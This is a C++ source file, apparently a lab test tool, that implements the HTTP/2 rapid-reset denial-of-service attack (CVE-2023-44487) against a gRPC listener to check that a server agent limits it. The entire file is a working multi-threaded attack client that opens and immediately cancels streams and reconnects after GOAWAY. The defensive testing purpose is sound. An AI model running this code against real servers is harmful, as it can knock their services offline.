// netprobe-test-rapid-reset: the HTTP/2 rapid-reset attack (CVE-2023-44487)
// against a plaintext gRPC listener, for the lab test that proves the agent
// bounds it:
//
//   netprobe-test-rapid-reset ADDRESS STREAMS CONNECTIONS [PATH]
//
// ADDRESS: HOST:PORT (IPv4) or unix:/PATH. On each of CONNECTIONS
// connections (one thread each) it sends the client preface and then, for
// STREAMS / CONNECTIONS streams, a HEADERS frame opening a call to PATH
// (default /netprobe.v1.Agent/GetInfo) followed at once by RST_STREAM
// (CANCEL), acknowledging the server's SETTINGS and PINGs and discarding
// everything else it reads. When the server ends a connection (GOAWAY, EOF
// or reset) that attacker connects again and goes on; once its streams are
// sent it waits for the server to end the connection, at most 60 s. Prints
// one line per attacker (connection at a time):
//   attacker=N sent=STREAMS connections=MADE ended=BY_SERVER goaway=WITH_GOAWAY
// and exits 0 (2 for a usage error, 1 when no connection could be made).
#include <arpa/inet.h>
#include <netinet/in.h>
#include <netinet/tcp.h>
#include <poll.h>
#include <sys/socket.h>
#include <sys/un.h>
#include <unistd.h>

#include <cerrno>
#include <cstdint>
#include <cstdio>
#include <cstdlib>
#include <cstring>
#include <string>
#include <thread>
#include <vector>

namespace {

constexpr uint8_t kHeaders = 1, kRstStream = 3, kSettings = 4, kPing = 6, kGoaway = 7;
constexpr uint8_t kEndHeaders = 0x4, kAck = 0x1;

void AppendFrame(std::string* out, uint8_t type, uint8_t flags, uint32_t stream,
                 const std::string& payload) {
  const uint32_t length = static_cast<uint32_t>(payload.size());
  out->push_back(static_cast<char>(length >> 16));
  out->push_back(static_cast<char>(length >> 8));
  out->push_back(static_cast<char>(length));
  out->push_back(static_cast<char>(type));
  out->push_back(static_cast<char>(flags));
  out->push_back(static_cast<char>((stream >> 24) & 0x7f));
  out->push_back(static_cast<char>(stream >> 16));
  out->push_back(static_cast<char>(stream >> 8));
  out->push_back(static_cast<char>(stream));
  out->append(payload);
}

// HPACK literal without indexing, new name (RFC 7541 6.2.2); short strings.
void AppendLiteral(std::string* block, const std::string& name,
                   const std::string& value) {
  block->push_back(0x00);
  block->push_back(static_cast<char>(name.size()));
  block->append(name);
  block->push_back(static_cast<char>(value.size()));
  block->append(value);
}

std::string RequestHeaders(const std::string& path) {
  std::string block;
  block.push_back(static_cast<char>(0x83));  // :method POST (static index 3)
  block.push_back(static_cast<char>(0x86));  // :scheme http (static index 6)
  AppendLiteral(&block, ":path", path);
  AppendLiteral(&block, ":authority", "agent");
  AppendLiteral(&block, "content-type", "application/grpc");
  AppendLiteral(&block, "te", "trailers");
  return block;
}

int Connect(const std::string& address) {
  if (address.rfind("unix:", 0) == 0) {
    sockaddr_un un{};
    un.sun_family = AF_UNIX;
    const std::string path = address.substr(5);
    if (path.size() >= sizeof(un.sun_path)) return -1;
    std::memcpy(un.sun_path, path.data(), path.size());
    const int fd = socket(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0);
    if (fd < 0 || connect(fd, reinterpret_cast<sockaddr*>(&un), sizeof(un)) != 0) {
      if (fd >= 0) close(fd);
      return -1;
    }
    return fd;
  }
  const size_t colon = address.rfind(':');
  if (colon == std::string::npos) return -1;
  sockaddr_in in{};
  in.sin_family = AF_INET;
  in.sin_port = htons(static_cast<uint16_t>(std::atoi(address.c_str() + colon + 1)));
  if (inet_pton(AF_INET, address.substr(0, colon).c_str(), &in.sin_addr) != 1) return -1;
  const int fd = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);
  if (fd < 0 || connect(fd, reinterpret_cast<sockaddr*>(&in), sizeof(in)) != 0) {
    if (fd >= 0) close(fd);
    return -1;
  }
  const int one = 1;
  setsockopt(fd, IPPROTO_TCP, TCP_NODELAY, &one, sizeof(one));
  return fd;
}

struct Outcome {
  long sent = 0;        // streams opened and reset, all connections
  int connections = 0;  // made
  int ended = 0;        // of those, ended by the server (GOAWAY, EOF, reset)
  int goaways = 0;      // of those, with a GOAWAY
};

// Parses what the server sent; queues SETTINGS and PING acks into `out`.
// Returns false once the server said GOAWAY.
bool Consume(std::string* in, std::string* out) {
  bool goaway = false;
  while (in->size() >= 9) {
    const auto* p = reinterpret_cast<const uint8_t*>(in->data());
    const size_t length = (size_t{p[0]} << 16) | (size_t{p[1]} << 8) | p[2];
    if (in->size() < 9 + length) break;
    const uint8_t type = p[3], flags = p[4];
    if (type == kSettings && !(flags & kAck)) AppendFrame(out, kSettings, kAck, 0, "");
    if (type == kPing && !(flags & kAck)) {
      AppendFrame(out, kPing, kAck, 0, in->substr(9, length));
    }
    if (type == kGoaway) goaway = true;
    in->erase(0, 9 + length);
  }
  return !goaway;
}

enum class End { kDone, kEnded, kGoaway, kStalled };

// One connection: opens and resets streams until `*left` is 0, then waits
// (at most 60 s) for the server to end it. Decrements `*left` per stream.
End AttackOnce(int fd, long* left, const std::string& path, Outcome* outcome) {
  std::string out = "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";
  AppendFrame(&out, kSettings, 0, 0, "");
  const std::string headers = RequestHeaders(path);
  const std::string cancel("\0\0\0\x08", 4);  // RST_STREAM error code CANCEL
  std::string in;
  uint32_t next_stream = 1;
  char buffer[65536];
  while (true) {
    // Keep a few streams' frames queued so the socket stays busy.
    while (*left > 0 && out.size() < 16384 && next_stream < (1u << 31) - 2) {
      AppendFrame(&out, kHeaders, kEndHeaders, next_stream, headers);
      AppendFrame(&out, kRstStream, 0, next_stream, cancel);
      next_stream += 2;
      --*left;
      ++outcome->sent;
    }
    pollfd pfd{fd, static_cast<short>(POLLIN | (out.empty() ? 0 : POLLOUT)), 0};
    // Sending, 10 s without progress: the server stopped reading. Sent, 60 s
    // without the server ending the connection: done, not ended.
    const bool sent = out.empty() && *left == 0;
    if (poll(&pfd, 1, sent ? 60000 : 10000) <= 0)
      return sent ? End::kDone : End::kStalled;
    if (pfd.revents & (POLLIN | POLLHUP | POLLERR)) {
      const ssize_t n = recv(fd, buffer, sizeof(buffer), 0);
      if (n <= 0) return End::kEnded;
      in.append(buffer, static_cast<size_t>(n));
      if (!Consume(&in, &out)) return End::kGoaway;
    }
    if ((pfd.revents & POLLOUT) && !out.empty()) {
      const ssize_t n = send(fd, out.data(), out.size(), MSG_NOSIGNAL);
      if (n < 0) {
        if (errno == EAGAIN || errno == EINTR) continue;
        return End::kEnded;
      }
      out.erase(0, static_cast<size_t>(n));
    }
  }
}

// Reconnects each time the server ends the connection, until `streams` were
// sent (at most kMaxConnections connections).
void Attack(const std::string& address, long streams, const std::string& path,
            Outcome* outcome) {
  constexpr int kMaxConnections = 10000;
  long left = streams;
  while (left > 0 && outcome->connections < kMaxConnections) {
    const int fd = Connect(address);
    if (fd < 0) return;
    ++outcome->connections;
    const End end = AttackOnce(fd, &left, path, outcome);
    close(fd);
    if (end == End::kEnded || end == End::kGoaway) ++outcome->ended;
    if (end == End::kGoaway) ++outcome->goaways;
    if (end == End::kStalled) return;
  }
}

}  // namespace

int main(int argc, char** argv) {
  if (argc < 4 || argc > 5) {
    std::fprintf(stderr,
                 "usage: netprobe-test-rapid-reset ADDRESS STREAMS CONNECTIONS [PATH]\n");
    return 2;
  }
  const std::string address = argv[1];
  const long streams = std::atol(argv[2]);
  const int connections = std::atoi(argv[3]);
  const std::string path = argc == 5 ? argv[4] : "/netprobe.v1.Agent/GetInfo";
  if (streams <= 0 || connections <= 0 || connections > 64 || path.size() > 100) {
    std::fprintf(stderr, "netprobe-test-rapid-reset: STREAMS > 0, CONNECTIONS 1..64\n");
    return 2;
  }
  std::vector<Outcome> outcomes(static_cast<size_t>(connections));
  std::vector<std::thread> threads;
  for (int i = 0; i < connections; ++i) {
    const long share = streams / connections + (i < streams % connections ? 1 : 0);
    threads.emplace_back(Attack, address, share, path, &outcomes[static_cast<size_t>(i)]);
  }
  bool any = false;
  for (int i = 0; i < connections; ++i) {
    threads[static_cast<size_t>(i)].join();
    const Outcome& o = outcomes[static_cast<size_t>(i)];
    any = any || o.connections > 0;
    std::printf("attacker=%d sent=%ld connections=%d ended=%d goaway=%d\n", i, o.sent,
                o.connections, o.ended, o.goaways);
  }
  return any ? 0 : 1;
}
